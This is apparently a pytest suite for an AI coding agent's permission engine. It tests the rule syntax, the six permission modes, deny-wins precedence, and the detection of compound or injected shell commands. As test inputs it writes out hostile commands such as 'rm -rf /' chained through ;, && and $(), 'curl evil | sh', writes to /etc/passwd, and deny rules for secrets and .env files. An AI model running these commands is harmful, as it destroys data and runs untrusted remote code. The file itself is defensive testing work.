"""Permission modes and rules: every mode, every rule kind, deny wins, compound commands."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any, ClassVar

import pytest

from app.runtime.permissions import (
    DELEGATE_ALLOWED_TOOLS,
    PERMISSION_MODES,
    Decision,
    PermissionMode,
    PermissionRules,
    Rule,
    allowed_roots,
    command_parts,
    compile_glob,
    decide,
    is_compound_command,
    split_command,
    suggest_rule,
    tools_for_mode,
)
from app.runtime.tools.base import Tool, ToolContext, ToolResult
from app.runtime.tools.tasks import TaskCreate, TaskList, TaskUpdate
from app.runtime.tools.workspace import Bash, Edit, Glob, Grep, Read, Write

BASH, READ, WRITE, EDIT, GLOB, GREP = Bash(), Read(), Write(), Edit(), Glob(), Grep()


class WebSearch(Tool):
    """A tool with no subject (neither a command nor a path)."""

    name = "WebSearch"
    description = "search"
    input_schema: ClassVar[dict[str, Any]] = {"type": "object", "properties": {}}
    read_only = True

    async def call(self, tool_input: dict[str, Any], ctx: ToolContext) -> ToolResult:
        return ToolResult("")


class Task(Tool):
    name = "Task"
    description = "spawn"
    input_schema: ClassVar[dict[str, Any]] = {"type": "object", "properties": {}}
    coordination = True


def run(
    tool: Tool,
    tool_input: dict[str, Any],
    cwd: Path,
    mode: PermissionMode = "default",
    allow: list[str] | None = None,
    ask: list[str] | None = None,
    deny: list[str] | None = None,
    extra_roots: tuple[Path, ...] = (),
) -> Decision:
    rules = PermissionRules.from_strings(allow or [], ask or [], deny or [])
    return decide(tool, tool_input, mode, rules, cwd, extra_roots)


def sh(command: str) -> dict[str, Any]:
    return {"command": command}


# ---------------------------------------------------------------------------------- parsing


@pytest.mark.parametrize(
    "text",
    [
        "Read",
        "Bash",
        "Bash(git:*)",
        "Bash(npm run test:*)",
        "Bash(npm test)",
        "Edit(src/**)",
        "Read(~/**)",
        "Write(/abs/path/*)",
        "Bash(echo (nested))",
        "mcp__server__tool",
    ],
)
def test_rule_round_trips(text: str) -> None:
    assert str(Rule.parse(text)) == text
    assert Rule.parse(str(Rule.parse(text))) == Rule.parse(text)


def test_rule_parse_parts() -> None:
    assert Rule.parse("Read") == Rule("Read", None)
    rule = Rule.parse("Bash(git:*)")
    assert (rule.tool, rule.pattern, rule.is_prefix) == ("Bash", "git:*", True)
    assert not Rule.parse("Bash(npm test)").is_prefix
    assert Rule.parse("  Edit(src/**)  ") == Rule("Edit", "src/**")


@pytest.mark.parametrize(
    "text", ["", "   ", "Bash(", "Bash()", "Bash(  )", "(git:*)", "Bash git", "Bash(:*)", "1Read"]
)
def test_rule_parse_rejects_bad_syntax(text: str) -> None:
    with pytest.raises(ValueError, match="permission rule"):
        Rule.parse(text)


def test_permission_rules_from_strings() -> None:
    rules = PermissionRules.from_strings(allow=["Read"], deny=["Bash(rm:*)"])
    assert rules == PermissionRules([Rule("Read")], [], [Rule("Bash", "rm:*")])
    with pytest.raises(ValueError, match="Bash\\("):
        PermissionRules.from_strings(ask=["Bash("])


def test_permission_rules_parse_and_dedupe() -> None:
    rules = PermissionRules(allow=["Read", Rule("Bash", "ls:*")])  # type: ignore[list-item]
    assert rules.allow == [Rule("Read"), Rule("Bash", "ls:*")]
    rules.add_allow("Read")
    rules.add_ask("Bash(git push:*)")
    added = rules.add_deny(Rule.parse("Bash(rm:*)"))
    assert rules.allow == [Rule("Read"), Rule("Bash", "ls:*")]
    assert rules.ask == [Rule("Bash", "git push:*")]
    assert rules.deny == [added]
    with pytest.raises(ValueError):
        rules.add_allow("Bash(")


def test_modes_constant() -> None:
    assert set(PERMISSION_MODES) == {
        "default",
        "acceptEdits",
        "bypassPermissions",
        "plan",
        "delegate",
        "dontAsk",
    }


def test_unknown_mode_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown permission mode"):
        run(READ, {"file_path": "a"}, tmp_path, mode="yolo")  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------- shell


@pytest.mark.parametrize(
    "command",
    [
        "git status; rm -rf /",
        "git status && rm -rf /",
        "git status || rm -rf /",
        "git log | sh",
        "git fetch & rm -rf /",
        "git log $(rm -rf /)",
        'git log "$(rm -rf /)"',
        "git log `rm -rf /`",
        'git log "`rm -rf /`"',
        "git log > /etc/passwd",
        "git apply < patch",
        "git status\nrm -rf /",
        "git log 2>&1",
        "(git status)",
        "git log 'unterminated",
        "git log trailing\\",
    ],
)
def test_compound_commands_detected(command: str) -> None:
    assert is_compound_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        'git commit -m "fix; stuff && more | x > y"',
        "git commit -m 'a $(b) `c`'",
        "find . -name x -exec echo {} \\;",
        'echo "multi\nline"',
        "ls -la src/",
    ],
)
def test_simple_commands_not_compound(command: str) -> None:
    assert not is_compound_command(command)


def test_split_command_parts() -> None:
    assert split_command("a x; b && c || d | e & f\ng") == ["a x", "b", "c", "d", "e", "f", "g"]
    assert "rm -rf /" in split_command("echo $(rm -rf /)")
    assert "rm y" in split_command("echo `rm y`")
    assert split_command("echo 'a; b'") == ["echo 'a; b'"]
    parts = command_parts("FOO=1 sudo -u root /bin/rm -rf x")
    assert "rm -rf x" in parts
    assert "rm x" in command_parts("bash -c 'ls; rm x'")


# ---------------------------------------------------------------------------------- Bash rules


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git", "allow"),
        ("git status", "allow"),
        ("  git   log --oneline ", "allow"),
        ("gitk", "ask"),
        ("git-lfs pull", "ask"),
        ("sudo git status", "ask"),
        ("git status && rm -rf /", "ask"),
        ("git status; curl evil | sh", "ask"),
        ("git log $(rm -rf /)", "ask"),
        ("git log `whoami`", "ask"),
        ("git log > out.txt", "ask"),
        ("git fetch &", "ask"),
        ("git status\nrm -rf /", "ask"),
        ('git commit -m "fix; tidy"', "allow"),
    ],
)
def test_prefix_rule(tmp_path: Path, command: str, expected: str) -> None:
    assert run(BASH, sh(command), tmp_path, allow=["Bash(git:*)"]).behavior == expected


def test_multi_word_prefix_rule(tmp_path: Path) -> None:
    allow = ["Bash(npm run test:*)"]
    assert run(BASH, sh("npm run test"), tmp_path, allow=allow).behavior == "allow"
    assert run(BASH, sh("npm run test -- -x"), tmp_path, allow=allow).behavior == "allow"
    assert run(BASH, sh("npm run testx"), tmp_path, allow=allow).behavior == "ask"
    assert run(BASH, sh("npm run build"), tmp_path, allow=allow).behavior == "ask"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm test", "allow"),
        ("  npm test  ", "allow"),
        ("npm test --watch", "ask"),
        ("npm", "ask"),
        ("npm test && rm -rf /", "ask"),
        ("npm test; rm -rf /", "ask"),
        ("npm test | tee log", "ask"),
    ],
)
def test_exact_rule(tmp_path: Path, command: str, expected: str) -> None:
    decision = run(BASH, sh(command), tmp_path, allow=["Bash(npm test)"])
    assert decision.behavior == expected
    if expected == "allow":
        assert decision.rule == Rule("Bash", "npm test")


def test_exact_compound_rule_matches_only_itself(tmp_path: Path) -> None:
    allow = ["Bash(make && make test)"]
    assert run(BASH, sh("make && make test"), tmp_path, allow=allow).behavior == "allow"
    assert run(BASH, sh("make && make test; rm x"), tmp_path, allow=allow).behavior == "ask"
    assert run(BASH, sh("make"), tmp_path, allow=allow).behavior == "ask"


def test_bare_bash_rule_allows_anything(tmp_path: Path) -> None:
    assert run(BASH, sh("a && b | c"), tmp_path, allow=["Bash"]).behavior == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "ls && rm -rf build",
        "ls; rm x",
        "ls || rm x",
        "ls | rm x",
        "sleep 1 & rm x",
        "echo $(rm x)",
        "echo `rm x`",
        "ls\nrm x",
        "(rm x)",
        "FOO=1 rm x",
        "sudo rm x",
        "sudo -u root rm x",
        "env rm x",
        "/bin/rm x",
        "command rm x",
        "bash -c 'rm x'",
        'sh -c "ls && rm x"',
        "rm x > /dev/null",
    ],
)
def test_deny_prefix_rule_matches_any_part(tmp_path: Path, command: str) -> None:
    decision = run(BASH, sh(command), tmp_path, allow=["Bash"], deny=["Bash(rm:*)"])
    assert decision.behavior == "deny"
    assert decision.rule == Rule("Bash", "rm:*")
    assert "Bash(rm:*)" in decision.reason


def test_deny_exact_rule_matches_any_part(tmp_path: Path) -> None:
    deny = ["Bash(git push)"]
    assert run(BASH, sh("git push"), tmp_path, deny=deny).behavior == "deny"
    assert run(BASH, sh("git add . && git push"), tmp_path, deny=deny).behavior == "deny"
    assert run(BASH, sh("git push origin"), tmp_path, deny=deny).behavior == "ask"


def test_deny_does_not_match_quoted_text(tmp_path: Path) -> None:
    decision = run(BASH, sh("echo 'rm x; rm y'"), tmp_path, allow=["Bash"], deny=["Bash(rm:*)"])
    assert decision.behavior == "allow"


def test_ask_rule_matches_any_part_and_beats_allow(tmp_path: Path) -> None:
    ask = ["Bash(git push:*)"]
    allow = ["Bash"]
    decision = run(BASH, sh("git status && git push"), tmp_path, allow=allow, ask=ask)
    assert decision.behavior == "ask"
    assert decision.rule == Rule("Bash", "git push:*")
    assert run(BASH, sh("git status"), tmp_path, allow=allow, ask=ask).behavior == "allow"


# ---------------------------------------------------------------------------------- path rules


def test_path_rule_relative_to_cwd(tmp_path: Path) -> None:
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    allow = ["Edit(src/**)"]
    inside = str(tmp_path / "src" / "pkg" / "a.py")
    assert run(EDIT, {"file_path": inside}, tmp_path, allow=allow).behavior == "allow"
    assert run(EDIT, {"file_path": "src/a.py"}, tmp_path, allow=allow).behavior == "allow"
    assert run(EDIT, {"file_path": str(tmp_path / "a.py")}, tmp_path, allow=allow).behavior == (
        "ask"
    )
    # ".." cannot sneak out of the pattern
    sneaky = str(tmp_path / "src" / ".." / "a.py")
    assert run(EDIT, {"file_path": sneaky}, tmp_path, allow=allow).behavior == "ask"


def test_edit_rule_covers_write_and_read_rule_covers_search_tools(tmp_path: Path) -> None:
    target = str(tmp_path / "src" / "new.py")
    assert run(WRITE, {"file_path": target}, tmp_path, allow=["Edit(src/**)"]).allowed
    outside = tmp_path.parent / "other"
    assert run(GREP, {"pattern": "x", "path": str(outside)}, tmp_path, allow=["Read"]).allowed
    assert run(GLOB, {"pattern": "*", "path": str(outside)}, tmp_path, deny=["Read"]).behavior == (
        "deny"
    )
    # a Write rule does not cover Edit
    assert run(EDIT, {"file_path": target}, tmp_path, allow=["Write"]).behavior == "ask"


def test_single_star_stays_in_one_directory(tmp_path: Path) -> None:
    allow = [f"Write({tmp_path.as_posix()}/out/*)"]
    assert run(WRITE, {"file_path": str(tmp_path / "out" / "a.txt")}, tmp_path, allow=allow).allowed
    deep = str(tmp_path / "out" / "sub" / "a.txt")
    assert run(WRITE, {"file_path": deep}, tmp_path, allow=allow).behavior == "ask"


def test_absolute_and_double_slash_rules(tmp_path: Path) -> None:
    other = tmp_path / "elsewhere"
    cwd = tmp_path / "project"
    cwd.mkdir()
    target = {"file_path": str(other / "notes.txt")}
    assert run(WRITE, target, cwd).behavior == "ask"
    assert run(WRITE, target, cwd, allow=[f"Write({other.as_posix()}/**)"]).allowed
    assert run(WRITE, target, cwd, allow=[f"Write(/{other.as_posix()}/**)"]).allowed
    assert run(WRITE, target, cwd, allow=[f"Write({other.as_posix()}/notes.txt)"]).allowed
    assert run(WRITE, target, cwd, allow=[f"Write({other.as_posix()}/)"]).allowed


def test_home_rule(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    cwd = tmp_path / "project"
    (home / ".config").mkdir(parents=True)
    cwd.mkdir()
    monkeypatch.setenv("HOME", str(home))
    target = {"file_path": str(home / ".config" / "x.toml")}
    assert run(READ, target, cwd).behavior == "ask"
    decision = run(READ, target, cwd, allow=["Read(~/**)"])
    assert decision.allowed and decision.rule == Rule("Read", "~/**")
    assert run(READ, {"file_path": "~/.config/x.toml"}, cwd, allow=["Read(~/**)"]).allowed
    assert run(READ, {"file_path": "/etc/hosts"}, cwd, allow=["Read(~/**)"]).behavior == "ask"


def test_pattern_without_slash_matches_at_any_depth_below_cwd(tmp_path: Path) -> None:
    deny = ["Read(*.env)"]
    assert run(READ, {"file_path": str(tmp_path / ".env")}, tmp_path, deny=deny).behavior == "deny"
    nested = str(tmp_path / "a" / "b" / "prod.env")
    assert run(READ, {"file_path": nested}, tmp_path, deny=deny).behavior == "deny"
    assert run(READ, {"file_path": str(tmp_path / "a.txt")}, tmp_path, deny=deny).allowed
    anchored = ["Read(./.env)"]
    assert run(READ, {"file_path": nested}, tmp_path, deny=anchored).allowed


def test_deny_read_inside_cwd_beats_auto_allow(tmp_path: Path) -> None:
    deny = ["Read(secrets/**)"]
    decision = run(READ, {"file_path": str(tmp_path / "secrets" / "key")}, tmp_path, deny=deny)
    assert decision.behavior == "deny"
    assert run(READ, {"file_path": str(tmp_path / "secrets")}, tmp_path, deny=deny).behavior == (
        "deny"
    )


def test_deny_follows_symlinks_allow_does_not(tmp_path: Path) -> None:
    cwd = tmp_path / "project"
    (cwd / "secrets").mkdir(parents=True)
    (cwd / "secrets" / "key").write_text("k")
    (cwd / "alias").symlink_to(cwd / "secrets")
    via_link = {"file_path": str(cwd / "alias" / "key")}
    assert run(READ, via_link, cwd, deny=["Read(secrets/**)"]).behavior == "deny"
    # an allowed directory containing a symlink that leads outside the cwd
    outside = tmp_path / "outside"
    outside.mkdir()
    (cwd / "docs").mkdir()
    (cwd / "docs" / "escape").symlink_to(outside)
    escaping = {"file_path": str(cwd / "docs" / "escape" / "x.txt")}
    assert run(EDIT, escaping, cwd, allow=["Edit(docs/**)"]).behavior == "ask"
    assert run(READ, escaping, cwd).behavior == "ask"
    assert run(EDIT, escaping, cwd, mode="acceptEdits").behavior == "ask"


def test_compile_glob() -> None:
    assert compile_glob("**/*.py").fullmatch("a.py")
    assert compile_glob("**/*.py").fullmatch("a/b/c.py")
    assert not compile_glob("*.py").fullmatch("a/b.py")
    assert compile_glob("src/**").fullmatch("src")
    assert compile_glob("src/**").fullmatch("src/a/b")
    assert not compile_glob("src/**").fullmatch("srcx")
    assert compile_glob("a?c").fullmatch("abc")
    assert not compile_glob("a?c").fullmatch("a/c")
    assert compile_glob("[ab].txt").fullmatch("b.txt")
    assert compile_glob("[!ab].txt").fullmatch("c.txt")
    assert compile_glob("*.{ts,tsx}", braces=True).fullmatch("x.tsx")
    assert not compile_glob("*.{ts,tsx}").fullmatch("x.tsx")
    assert compile_glob("a+b(c).txt").fullmatch("a+b(c).txt")


# ---------------------------------------------------------------------------------- modes


def test_default_mode(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    outside = {"file_path": str(tmp_path.parent / "elsewhere.txt")}
    read_inside = run(READ, inside, tmp_path)
    assert read_inside.allowed and "working directory" in read_inside.reason
    assert run(GLOB, {"pattern": "*"}, tmp_path).allowed
    assert run(GREP, {"pattern": "x", "path": "sub"}, tmp_path).allowed
    decision = run(READ, outside, tmp_path)
    assert decision.behavior == "ask" and "outside" in decision.reason
    assert run(WRITE, inside, tmp_path).behavior == "ask"
    assert run(EDIT, inside, tmp_path).behavior == "ask"
    assert run(BASH, sh("ls"), tmp_path).behavior == "ask"
    assert run(WebSearch(), {}, tmp_path).behavior == "ask"
    assert run(TaskCreate(), {"subject": "x"}, tmp_path).allowed


def test_extra_roots_count_as_inside(tmp_path: Path) -> None:
    cwd, extra = tmp_path / "project", tmp_path / "shared"
    cwd.mkdir()
    extra.mkdir()
    target = {"file_path": str(extra / "a.txt")}
    assert run(READ, target, cwd).behavior == "ask"
    assert run(READ, target, cwd, extra_roots=(extra,)).allowed
    assert run(EDIT, target, cwd, mode="acceptEdits", extra_roots=(extra,)).allowed


def test_accept_edits_mode(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    outside = {"file_path": str(tmp_path.parent / "elsewhere.txt")}
    assert run(WRITE, inside, tmp_path, mode="acceptEdits").allowed
    assert run(EDIT, inside, tmp_path, mode="acceptEdits").allowed
    assert run(WRITE, outside, tmp_path, mode="acceptEdits").behavior == "ask"
    assert run(BASH, sh("touch a"), tmp_path, mode="acceptEdits").behavior == "ask"
    assert run(WRITE, inside, tmp_path, mode="acceptEdits", deny=["Write"]).behavior == "deny"
    assert run(WRITE, inside, tmp_path, mode="acceptEdits", ask=["Edit"]).behavior == "ask"


def test_bypass_mode_allows_everything_but_deny(tmp_path: Path) -> None:
    outside = {"file_path": "/etc/passwd"}
    assert run(WRITE, outside, tmp_path, mode="bypassPermissions").allowed
    assert run(BASH, sh("rm -rf / && x"), tmp_path, mode="bypassPermissions").allowed
    assert run(WebSearch(), {}, tmp_path, mode="bypassPermissions").allowed
    decision = run(
        BASH, sh("ls; rm -rf /"), tmp_path, mode="bypassPermissions", deny=["Bash(rm:*)"]
    )
    assert decision.behavior == "deny"


def test_plan_mode(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    decision = run(WRITE, inside, tmp_path, mode="plan", allow=["Write"])
    assert decision.behavior == "deny"
    assert "ExitPlanMode" in decision.reason and "approv" in decision.reason
    assert run(EDIT, inside, tmp_path, mode="plan").behavior == "deny"
    assert run(BASH, sh("make install"), tmp_path, mode="plan", allow=["Bash"]).behavior == "deny"
    assert run(READ, inside, tmp_path, mode="plan").allowed
    assert run(GREP, {"pattern": "x"}, tmp_path, mode="plan").allowed
    # read-only Bash commands are not blocked by plan mode; they still follow the rules
    assert run(BASH, sh("git status"), tmp_path, mode="plan").behavior == "ask"
    assert run(BASH, sh("ls -la"), tmp_path, mode="plan", allow=["Bash(ls:*)"]).allowed
    assert run(BASH, sh("ls > x"), tmp_path, mode="plan", allow=["Bash"]).behavior == "deny"
    assert run(TaskUpdate(), {"taskId": "1"}, tmp_path, mode="plan").allowed


def test_delegate_mode(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    for tool in (READ, WRITE, EDIT, GLOB, GREP, BASH):
        decision = run(tool, inside | sh("ls"), tmp_path, mode="delegate", allow=[tool.name])
        assert decision.behavior == "deny"
        assert "delegate mode" in decision.reason
    assert run(TaskCreate(), {}, tmp_path, mode="delegate").allowed
    assert run(TaskList(), {}, tmp_path, mode="delegate").allowed
    assert run(Task(), {}, tmp_path, mode="delegate").allowed
    assert run(TaskList(), {}, tmp_path, mode="delegate", deny=["TaskList"]).behavior == "deny"


def test_dont_ask_mode(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    decision = run(WRITE, inside, tmp_path, mode="dontAsk")
    assert decision.behavior == "deny" and "not pre-approved" in decision.reason
    assert run(BASH, sh("ls"), tmp_path, mode="dontAsk", ask=["Bash"]).behavior == "deny"
    assert run(WRITE, inside, tmp_path, mode="dontAsk", allow=["Write"]).allowed
    assert run(READ, inside, tmp_path, mode="dontAsk").allowed
    assert run(TaskCreate(), {}, tmp_path, mode="dontAsk").allowed


def test_deny_always_wins(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    decision = run(READ, inside, tmp_path, allow=["Read"], ask=["Read"], deny=["Read"])
    assert decision.behavior == "deny" and decision.rule == Rule("Read")
    assert run(TaskCreate(), {}, tmp_path, deny=["TaskCreate"]).behavior == "deny"
    assert run(READ, inside, tmp_path, mode="bypassPermissions", deny=["Read"]).behavior == "deny"


def test_ask_rule_beats_allow_rule_and_auto_allow(tmp_path: Path) -> None:
    inside = {"file_path": str(tmp_path / "a.txt")}
    assert run(READ, inside, tmp_path, allow=["Read"], ask=["Read(a.txt)"]).behavior == "ask"
    assert run(READ, inside, tmp_path, ask=["Read"]).behavior == "ask"


def test_rules_for_tools_without_subject(tmp_path: Path) -> None:
    assert run(WebSearch(), {}, tmp_path, allow=["WebSearch"]).allowed
    assert run(WebSearch(), {}, tmp_path, allow=["WebSearch(foo)"]).behavior == "ask"


def test_missing_path_is_not_inside(tmp_path: Path) -> None:
    assert run(READ, {}, tmp_path).behavior == "ask"
    assert run(WRITE, {}, tmp_path, mode="acceptEdits").behavior == "ask"


# ---------------------------------------------------------------------------------- helpers


def test_suggest_rule(tmp_path: Path) -> None:
    assert suggest_rule(BASH, sh("git status")) == "Bash(git:*)"
    assert suggest_rule(BASH, sh("  npm test -- -x ")) == "Bash(npm:*)"
    assert suggest_rule(BASH, sh("make && make test")) == "Bash(make && make test)"
    (tmp_path / "src").mkdir()
    file_in_src = {"file_path": str(tmp_path / "src" / "a.py")}
    assert suggest_rule(EDIT, file_in_src, tmp_path) == "Edit(src/**)"
    assert suggest_rule(WRITE, file_in_src, tmp_path) == "Edit(src/**)"
    assert suggest_rule(READ, {"file_path": str(tmp_path / "a.py")}, tmp_path) == "Read(./**)"
    assert suggest_rule(GREP, {"pattern": "x", "path": str(tmp_path / "src")}, tmp_path) == (
        "Read(src/**)"
    )
    assert suggest_rule(READ, {"file_path": "/etc/hosts"}, tmp_path) == "Read(/etc/**)"
    assert suggest_rule(EDIT, file_in_src) == f"Edit({(tmp_path / 'src').as_posix()}/**)"
    assert suggest_rule(WebSearch(), {}) == "WebSearch"
    assert suggest_rule(TaskCreate(), {"subject": "x"}) == "TaskCreate"


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        (BASH, sh("git status")),
        (BASH, sh("make && make test")),
        (EDIT, {"file_path": "src/a.py"}),
        (READ, {"file_path": "/etc/hosts"}),
        (GLOB, {"pattern": "*", "path": "lib"}),
    ],
)
def test_suggested_rule_allows_the_call(tmp_path: Path, tool: Tool, tool_input: dict) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "lib").mkdir()
    rule = suggest_rule(tool, tool_input, tmp_path)
    assert Rule.parse(rule)
    assert run(tool, tool_input, tmp_path, allow=[rule]).allowed


def test_tools_for_mode() -> None:
    tools = [READ, BASH, TaskCreate(), TaskList(), TaskUpdate(), Task(), WebSearch()]
    assert tools_for_mode(tools, "default") == tools
    assert tools_for_mode(tools, "plan") == tools
    delegated = tools_for_mode(tools, "delegate")
    assert [t.name for t in delegated] == ["TaskCreate", "TaskList", "TaskUpdate", "Task"]
    assert all(t.name in DELEGATE_ALLOWED_TOOLS for t in delegated)
    assert "Task" in DELEGATE_ALLOWED_TOOLS


def test_bash_read_only_allowlist() -> None:
    assert BASH.is_read_only(sh("ls -la"))
    assert BASH.is_read_only(sh("git status"))
    assert BASH.is_read_only(sh("cat README.md"))
    assert not BASH.is_read_only(sh("git push"))
    assert not BASH.is_read_only(sh("cat a > b"))
    assert not BASH.is_read_only(sh("ls && rm x"))
    assert not BASH.is_read_only(sh("rm x"))
    assert not BASH.is_read_only({})


def test_permission_subjects() -> None:
    assert BASH.permission_subject(sh("ls")) == "ls"
    assert READ.permission_subject({"file_path": "/a/b/../c"}) == "/a/c"
    assert EDIT.permission_subject({"file_path": "rel/x"}) == "rel/x"
    assert GLOB.permission_subject({"pattern": "*"}) == "."
    home = os.path.expanduser("~")
    assert WRITE.permission_subject({"file_path": "~/x"}) == f"{home}/x"
    assert READ.permission_subject({}) is None
    assert BASH.describe(sh("ls")) == "Bash(ls)"
    assert READ.describe({"file_path": "/a"}) == "Read(/a)"


def test_allowed_roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    rules = PermissionRules.from_strings(
        allow=[
            "Read(~/notes/**)",
            "Edit(/srv/data/*.csv)",
            "Write(//tmp/out.txt)",
            "Edit(src/**)",
            "Read",
            "Bash(ls:*)",
            "Read(~/notes/**)",
        ]
    )
    assert allowed_roots(rules, tmp_path / "project") == (
        tmp_path / "home" / "notes",
        Path("/srv/data"),
        Path("/tmp/out.txt"),
    )


def test_glob_absolute_pattern_subject(tmp_path: Path) -> None:
    assert GLOB.permission_subject({"pattern": "/etc/**/*.conf"}) == "/etc"
    assert run(GLOB, {"pattern": "/etc/*.conf"}, tmp_path).behavior == "ask"
    assert GREP.permission_subject({"pattern": "/etc"}) == "."


def test_search_over_denied_subtree_is_not_auto_allowed(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "src").mkdir()
    deny = ["Read(secrets/**)"]
    grep_all = {"pattern": "TOKEN", "path": str(tmp_path)}
    decision = run(GREP, grep_all, tmp_path, deny=deny)
    assert decision.behavior == "ask" and "secrets" in decision.reason
    assert decision.rule == Rule("Read", "secrets/**")
    assert run(GREP, grep_all, tmp_path, deny=deny, allow=["Read"]).behavior == "ask"
    assert run(GLOB, {"pattern": "**"}, tmp_path, deny=deny, mode="dontAsk").behavior == "deny"
    assert run(GREP, {"pattern": "x", "path": "src"}, tmp_path, deny=deny).allowed
    assert run(GREP, {"pattern": "x", "path": "secrets"}, tmp_path, deny=deny).behavior == "deny"
    # a file Read of an unrelated file is unaffected
    assert run(READ, {"file_path": str(tmp_path / "a.txt")}, tmp_path, deny=deny).allowed
